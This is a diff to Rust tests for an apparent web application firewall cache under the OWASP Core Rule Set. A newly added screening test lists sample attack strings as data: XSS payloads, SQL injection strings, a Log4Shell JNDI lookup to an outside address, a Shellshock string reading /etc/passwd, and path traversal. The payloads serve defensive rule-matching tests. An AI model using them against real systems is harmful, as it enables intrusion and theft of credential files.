@@ -6,7 +6,7 @@ use std::sync::{Arc, Mutex};
 use proptest::test_runner::{Config as ProptestConfig, TestRunner};
 
 use super::*;
-use crate::model::{Request, RuleId};
+use crate::model::{Header, Request, RuleId};
 use crate::service::testing::{call, outcome, quiet, rule_match, service, service_of};
 use crate::service::{Answer, Decision, Service};
 
@@ -364,13 +364,19 @@ fn keys_tell_every_boundary_apart() {
     calls.push(call(Request { remote_port: 1, ..get }));
     calls.push(call(Request { server_port: 1, ..get }));
     let key = FingerprintKey::new([5; 16]);
-    let mut keys: Vec<_> = calls.iter().map(|call| key.key(call, &footprint, |_| true)).collect();
+    let mut keys: Vec<_> = calls.iter().map(|call| key.key(call, &footprint, std::iter::repeat(true))).collect();
     let count = keys.len();
     keys.sort();
     keys.dedup();
     assert_eq!(keys.len(), count);
-    assert_eq!(key.key(&plain, &footprint, |_| true), key.key(&call(get), &footprint, |_| true));
-    assert_ne!(key.key(&plain, &footprint, |_| true), FingerprintKey::new([6; 16]).key(&plain, &footprint, |_| true));
+    assert_eq!(
+        key.key(&plain, &footprint, std::iter::repeat(true)),
+        key.key(&call(get), &footprint, std::iter::repeat(true))
+    );
+    assert_ne!(
+        key.key(&plain, &footprint, std::iter::repeat(true)),
+        FingerprintKey::new([6; 16]).key(&plain, &footprint, std::iter::repeat(true))
+    );
 }
 
 #[test]
@@ -414,8 +420,9 @@ fn classes_of_headers() {
     let rules = crate::service::testing::load("SecRuleEngine On").unwrap().rules;
     let cache = Cache::new(&policy, &rules, FingerprintKey::new([0; 16]), Arc::default()).unwrap();
     let table = [
-        ("X-Request-ID", Class::Volatile),
-        ("x_request_id", Class::Volatile),
+        ("x-request-id", Class::Volatile(Some(0))),
+        ("X-Request-ID", Class::Volatile(None)),
+        ("x_request_id", Class::Volatile(None)),
         ("B3", Class::Stable),
         ("traceparent", Class::Stable),
         ("X-MINE", Class::Never),
@@ -461,6 +468,7 @@ fn under_the_crs() {
     };
     let (cached, fresh) = (with(true), with(false));
     poisoning_under_the_crs(&cached);
+    screens_under_the_crs(&cached);
     let steps: Vec<(usize, usize)> = (0..50).map(|step: usize| (step * 7919 % 1013, step * 104_729 % 997)).collect();
     let hits = run_stream(&steps, &cached, &fresh, || {});
     println!("under the CRS: {hits} of 100 requests answered from the cache");
@@ -490,4 +498,42 @@ fn poisoning_under_the_crs(service: &Service) {
         }
         assert_eq!(status(&sends(name, clean)), 200, "{name}");
     }
+}
+
+/// A screen says what a look at every link says, on values of all sorts and on what becomes of them.
+fn screens_under_the_crs(service: &Service) {
+    let values = [
+        "5d1a6b0e-3c8f-4b52-9f0e-000000000000",
+        "192.0.2.1, 198.51.100.7",
+        "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
+        "\"33a64df551425fcc55e4d42a148795d9f25f89d4\"",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+        "https://shop.example/?q=<script>alert(1)</script>",
+        "%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
+        "&lt;svg/onload=alert(1)&gt;",
+        "1' or '1'='1' --",
+        "1 UNION/**/SELECT password FROM users",
+        "${jndi:ldap://203.0.113.9/a}",
+        "() { :; }; /bin/cat /etc/passwd",
+        "sqlmap/1.7",
+        "/../../etc/passwd",
+        "%u0073\\x63ript \\u0061lert",
+        "",
+    ];
+    let snapshot = service.snapshot.load();
+    let rules = &snapshot.policy(None).unwrap().set.rules;
+    let (mut scratch, mut looked_at, mut matched) = (Scratch::default(), 0, 0);
+    for name in ["x-request-id", "X-Forwarded-For", "referer", "user-agent", "if-none-match"] {
+        let screen = Screen::new(rules, name.as_bytes());
+        for (first, second) in values.iter().flat_map(|first| values.iter().map(move |second| (first, second))) {
+            let cut = first.len() * (looked_at % 5) / 4;
+            let value = [&first.as_bytes()[..cut], second.as_bytes()].concat();
+            let expected = screen.matches_plainly(rules, &value);
+            assert_eq!(screen.matches(rules, &value, &mut scratch), expected, "{name}: {}", value.escape_ascii());
+            looked_at += 1;
+            matched += usize::from(expected);
+        }
+    }
+    println!("under the CRS: {looked_at} values screened, {matched} matched");
+    assert!(matched > 100 && matched < looked_at - 100, "{matched} of {looked_at}");
 }
